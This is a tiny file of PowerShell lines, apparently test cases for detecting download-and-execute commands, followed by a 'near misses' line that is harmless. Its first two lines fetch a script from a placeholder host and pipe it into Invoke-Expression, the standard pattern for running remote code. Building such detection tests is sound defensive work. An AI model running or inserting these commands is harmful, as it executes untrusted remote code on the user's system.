iex (irm https://a.invalid/s)
irm https://a.invalid/s | iex
# near misses
iex "Get-Date"
